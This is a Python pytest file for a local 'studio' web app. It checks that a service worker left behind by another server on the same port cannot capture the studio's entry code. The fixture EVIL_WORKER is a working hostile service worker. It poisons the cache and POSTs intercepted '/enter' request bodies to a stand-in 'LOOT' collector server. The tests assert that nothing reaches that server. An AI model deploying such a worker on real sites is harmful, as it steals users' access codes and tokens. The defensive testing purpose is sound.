"""A service worker that another user's server has left at the studio's address in a browser.

That server had the port before; the studio's page opens under that server's worker.
"""

from __future__ import annotations

from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import TYPE_CHECKING, Any

import pytest

from tests.support import page_server, studio
from tests.support.needs import need
from tests.support.studio import enter
from tiniscript.studio import serving
from tiniscript.studio.hosting import Hosting

if TYPE_CHECKING:
    from playwright.sync_api import Browser, BrowserContext, Page

# It lets all through but a code, which it tells to its own server; and it keeps a page for later.
EVIL_WORKER = """
self.addEventListener('install', (event) => { skipWaiting(); event.waitUntil(
  caches.open('tiniscript-studio-VERSION').then((cache) =>
    cache.put('./?', new Response('evil', {headers: {'Content-Type': 'text/html'}})))); });
self.addEventListener('activate', (event) => event.waitUntil(clients.claim()));
self.addEventListener('fetch', (event) => {
  if (!event.request.url.endsWith('/enter')) return;
  const read = event.request.clone().text();
  event.respondWith((async () => {
    await fetch('LOOT', {method: 'POST', mode: 'no-cors', body: await read});
    return fetch(event.request);
  })());
});
"""
LEAVE_WORKER_SCRIPT = """async ([name, options]) => {
  await navigator.serviceWorker.register(name, options);
  const {active} = await navigator.serviceWorker.ready;
  while (active.state !== 'activated') await new Promise((done) => setTimeout(done, 20));
}"""
CONTROLLER_SCRIPT = "() => navigator.serviceWorker.controller?.scriptURL ?? ''"
WORKERS = """async () => (await navigator.serviceWorker.getRegistrations())
  .map(({active, waiting, installing}) => (active ?? waiting ?? installing).scriptURL)"""
TOKEN_SCRIPT = "sessionStorage.getItem('tiniscript.token')"


class Stranger(ThreadingHTTPServer):
    """Another user's server; `loot` has the reports of its worker."""

    daemon_threads = True

    def __init__(self, port: int, scripts: dict[str, bytes]) -> None:
        super().__init__((serving.HOST, port), _Handler)
        self.scripts = scripts
        self.loot: list[bytes] = []


class _Handler(BaseHTTPRequestHandler):
    server: Stranger

    def do_GET(self) -> None:
        script = self.server.scripts.get(self.path)
        self.send_response(200)
        self.send_header("Content-Type", "text/javascript" if script else "text/html")
        self.send_header("Cache-Control", "max-age=86400" if script else "no-store")
        self.end_headers()
        self.wfile.write(script or b"<!doctype html><title>x</title>")

    def do_POST(self) -> None:
        self.server.loot.append(self.rfile.read(int(self.headers["Content-Length"])))
        self.send_response(204)
        self.end_headers()

    def log_message(self, format: str, *arguments: Any) -> None:
        pass


@contextmanager
def serve_robots(port: int = 0) -> Iterator[serving.Server]:
    hosting = Hosting()
    try:
        with page_server.serves(serving.Server(serving.files(), port, hosting.answer)) as server:
            yield server
    finally:
        hosting.close()


@pytest.fixture
def context(browser: Browser) -> Iterator[BrowserContext]:
    need(studio.missing())
    browser_context = browser.new_context()
    browser_context.set_default_timeout(90_000)
    yield browser_context
    browser_context.close()


@pytest.fixture
def loot() -> Iterator[Stranger]:
    with page_server.serves(Stranger(0, {})) as stranger:
        yield stranger


def version() -> str:
    source = serving.files()[serving.WORKER_FILE].data.decode()
    return source.partition('VERSION = "')[2].partition('"')[0]


def leave_worker(
    context: BrowserContext, loot: Stranger, name: str, options: dict[str, str]
) -> int:
    """Install the worker of another server; return its port, which is free afterwards."""
    worker_code = EVIL_WORKER.replace("VERSION", version())
    worker_code = worker_code.replace("LOOT", f"http://{serving.HOST}:{loot.server_port}/")
    with page_server.serves(Stranger(0, {f"/{name}": worker_code.encode()})) as stranger:
        page = context.new_page()
        page.goto(f"http://{serving.HOST}:{stranger.server_port}/")
        page.evaluate(LEAVE_WORKER_SCRIPT, [f"./{name}", options])
        page.close()
        return stranger.server_port


def check_own_worker(page: Page, server: serving.Server) -> None:
    """The page has the robots, and only its own worker is or comes there."""
    assert page.evaluate(TOKEN_SCRIPT) == server.entrances.token
    assert "code" not in page.evaluate("location.href")
    page.evaluate("navigator.serviceWorker.ready.then(() => 1)")
    assert page.evaluate(WORKERS) == [f"{server.address}{serving.WORKER_FILE}"]


@pytest.mark.sampled("name", "options")
@pytest.mark.parametrize("name", ["evil.js", serving.WORKER_FILE])
@pytest.mark.parametrize("options", [{}, {"updateViaCache": "all"}], ids=["", "kept by browsers"])
def test_no_foreign_service_worker_gets_the_code(
    context: BrowserContext, loot: Stranger, name: str, options: dict[str, str]
) -> None:
    """This holds for any name of the worker, and however long a browser keeps it."""
    port = leave_worker(context, loot, name, options)
    with serve_robots(port) as server:
        page = context.new_page()
        enter(page, server.entrance())
        check_own_worker(page, server)
        page.close()
        page = context.new_page()
        enter(page, server.entrance())  # no stored answers are shown later
        check_own_worker(page, server)
        assert page.evaluate(CONTROLLER_SCRIPT) == f"{server.address}{serving.WORKER_FILE}"
    assert loot.loot == []


@pytest.mark.sampled(of="pages of their own", keep=2)
def test_the_pages_own_service_worker_stays(context: BrowserContext) -> None:
    """A page with a code loads once if there is the server's own worker, or none."""
    with serve_robots() as server:
        loads: list[str] = []
        for _ in range(2):
            page = context.new_page()
            page.on("load", lambda page: loads.append(page.url))
            enter(page, server.entrance())
            check_own_worker(page, server)
            page.close()
        assert len(loads) == 2


def test_a_service_worker_that_stays_gets_no_code(context: BrowserContext, loot: Stranger) -> None:
    port = leave_worker(context, loot, "evil.js", {})
    with serve_robots(port) as server:
        page = context.new_page()
        page.add_init_script("ServiceWorkerRegistration.prototype.unregister = async () => false;")
        entrance = server.entrance()
        page.goto(entrance)
        locator = page.locator("#note").filter(has_text="Delete this address’s data in the browser")
        locator.wait_for()
        assert page.evaluate(TOKEN_SCRIPT) is None and server.is_unused(entrance)
    assert loot.loot == []


def test_a_request_for_a_foreign_service_worker_unregisters_it() -> None:
    page = {
        "index.html": serving.File(b"x", "text/html"),
        serving.WORKER_FILE: serving.File(b"y", "z"),
    }
    with page_server.serves(serving.Server(page, 0)) as server:
        server_host = f"{serving.HOST}:{server.server_port}"
        for path in ("/evil.js", "/", "/index.html", "/a/b.js?c"):
            answer, data = page_server.ask(server_host, path, headers={"Service-Worker": "script"})
            assert answer.status == 200 and b"registration.unregister()" in data
            assert answer.getheader("Content-Type") == "text/javascript; charset=utf-8"
        response = page_server.ask(
            server_host, f"/{serving.WORKER_FILE}", headers={"Service-Worker": "script"}
        )
        assert response[1] == b"y"
        assert page_server.ask(server_host, "/evil.js")[0].status == 404
